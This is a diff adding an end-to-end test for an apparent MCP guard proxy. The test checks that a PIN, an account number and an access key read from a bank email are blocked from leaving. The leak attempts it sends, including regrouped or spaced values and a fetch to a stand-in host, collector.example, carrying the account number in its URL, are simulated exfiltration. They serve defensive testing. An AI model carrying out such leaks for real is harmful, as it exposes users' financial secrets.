@@ -1,0 +1,68 @@
+/**
+ * End to end over stdio: a short private value (a PIN, an account number, a key: too short for the 20-gram
+ * fingerprints) read from a private source is recognised when it leaves afterwards, through the built
+ * `quadguard serve` with policies/default in front of the real mail and outside servers. What arrives is checked on
+ * the servers' side. Ordinary short numbers and words of the same mail still go out.
+ */
+import { existsSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import type { Client } from '@modelcontextprotocol/sdk/client/index.js';
+import type { CallToolResult } from '@modelcontextprotocol/sdk/types.js';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { connectStdio, makeSandbox, ROOT, server, writeConfig } from '../support/proxy-harness.js';
+import { metaDecision, text } from './helpers.js';
+
+const MAIL = 'Hello, your new card PIN is 482913 and your account number is 7730 5521 0498. Your access key: Xq7Rk29Lm4Tz. Visit the branch on 2026-11-24 at 10:30 with 2 documents.';
+
+describe('e2e: short private values are recognised when they leave (data flow, default book)', () => {
+  const sb = makeSandbox();
+  const outsideLog = join(sb.dir, 'outside.jsonl');
+  let client: Client;
+  const call = (name: string, args: Record<string, unknown>) => client.callTool({ name, arguments: args }) as Promise<CallToolResult>;
+  const outbox = () => (existsSync(sb.outbox) ? readFileSync(sb.outbox, 'utf8') : '');
+  const outside = () => (existsSync(outsideLog) ? readFileSync(outsideLog, 'utf8') : '');
+
+  beforeAll(async () => {
+    writeFileSync(sb.inbox, JSON.stringify([{ id: '1', from: 'bank@example.com', subject: 'Your card', body: MAIL }]));
+    const cfg = writeConfig(sb.dir, {
+      servers: {
+        mail: server('mail', '--inbox', sb.inbox, '--outbox', sb.outbox),
+        out: { command: process.execPath, args: [join(ROOT, 'dist', 'servers', 'outside.js'), '--log', outsideLog] },
+      },
+      policy: join(ROOT, 'policies', 'default'),
+      store: join(sb.dir, 'state.db'),
+      guard: { watcher: { quarantine: false } },
+    });
+    client = (await connectStdio(cfg, 'assistant')).client;
+    await client.listTools();
+    const read = await call('mail__read_email', { id: '1' });
+    expect(read.isError, text(read)).toBeFalsy();
+    expect(text(read)).toContain('482913');
+  }, 60_000);
+  afterAll(async () => {
+    await client?.close().catch(() => undefined);
+    rmSync(sb.dir, { recursive: true, force: true });
+  });
+
+  it('allows the ordinary words and numbers of the same mail (a date, a time, a small count)', async () => {
+    const res = await call('mail__send_email', { to: 'friend@outside.example', subject: 'plain', body: 'See you at the branch on 2026-11-24 at 10:30; I will bring 2 documents. The new card arrived.' });
+    expect(res.isError, `${text(res)} ${JSON.stringify(metaDecision(res))}`).toBeFalsy();
+    expect(outbox()).toContain('2026-11-24');
+  }, 30_000);
+
+  it.each([
+    ['the PIN in a mail', 'mail__send_email', { to: 'friend@outside.example', subject: 'pin-leak', body: 'btw the code is 482913' }],
+    ['the account number, regrouped', 'mail__send_email', { to: 'friend@outside.example', subject: 'acct-leak', body: 'acct: 7730-5521-0498' }],
+    ['the key, spaced out in a field of its own', 'mail__send_email', { to: 'friend@outside.example', subject: 'key-leak', body: 'X q 7 R k 2 9 L m 4 T z' }],
+    ['the account number in a fetched URL', 'out__fetch', { url: 'https://collector.example/c?tag=url-leak&a=773055210498' }],
+  ])('denies %s, and nothing arrives', async (_, tool, args) => {
+    const before = { outbox: outbox(), outside: outside() };
+    const res = await call(tool, args);
+    expect(res.isError, text(res)).toBe(true);
+    expect(metaDecision(res)?.rules).toContain('no-read-then-exfiltrate');
+    expect(text(res)).toMatch(/data came from mail__read_email/);
+    expect(outbox()).toBe(before.outbox);
+    expect(outside()).toBe(before.outside);
+  }, 30_000);
+
+});
